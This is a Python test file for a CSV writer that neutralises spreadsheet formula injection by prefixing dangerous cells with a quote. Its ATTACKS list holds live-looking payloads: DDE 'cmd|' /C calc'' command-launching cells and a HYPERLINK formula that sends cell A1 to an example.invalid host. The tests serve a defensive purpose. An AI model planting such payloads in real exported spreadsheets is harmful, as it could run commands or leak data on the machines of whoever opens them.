"""core.csvfiles: a cell a spreadsheet would run as a formula is written as text, and can be read back."""

import csv
import io

import pytest

from commonweal.core import csvfiles

ATTACKS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
]


def _written(rows, **kwargs) -> str:
    out = io.StringIO()
    csvfiles.writer(out, **kwargs).writerows(rows)
    return out.getvalue()


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_would_run_is_written_with_a_quote_in_front(attack):
    assert _cells(_written([["safe", attack]])) == [["safe", "'" + attack]]


@pytest.mark.parametrize(
    "plain", ["Housing", "It's fine", "Care leavers aged 18-25", "", "'quoted", "a=b"]
)
def test_other_text_is_written_as_it_is(plain):
    assert _cells(_written([[plain]])) == [[plain]]


@pytest.mark.parametrize("number", [-5, "-5", "+1", "-0.25", "+1.5e3", 3])
def test_numbers_stay_numbers(number):
    assert _cells(_written([[number]])) == [[str(number)]]


@pytest.mark.parametrize(
    "value",
    [
        *ATTACKS,
        "-5% smoking",
        "+1",
        "'=already quoted",
        "''+twice",
        "'",
        "''",
        "plain",
        "-",
        "=",
        "'-5",
    ],
)
def test_reading_back_gives_exactly_what_was_written(value):
    [[cell]] = _cells(_written([[value]]))
    assert csvfiles.unescape_cell(cell) == value


def test_a_cell_typed_with_a_quote_is_not_changed_when_read():
    assert csvfiles.unescape_cell("'hello") == "'hello"
    assert (
        csvfiles.unescape_cell("'-5") == "'-5"
    )  # a number never gets a quote, so this one was typed


def test_rows_end_as_rfc_4180_says_so_a_carriage_return_in_a_cell_stays_in_its_cell():
    text = _written([["line one\rline two", "next"], ["second row"]])
    assert text == '"line one\rline two",next\r\nsecond row\r\n'
    assert _cells(text) == [["line one\rline two", "next"], ["second row"]]


def test_the_dict_writer_makes_the_header_and_every_row_safe():
    out = io.StringIO()
    writer = csvfiles.DictWriter(out, fieldnames=["name", "=x"])
    writer.writeheader()
    writer.writerow({"name": "=1+1", "=x": "fine"})
    writer.writerows([{"name": "@me", "=x": -3}])
    assert _cells(out.getvalue()) == [["name", "'=x"], ["'=1+1", "fine"], ["'@me", "-3"]]
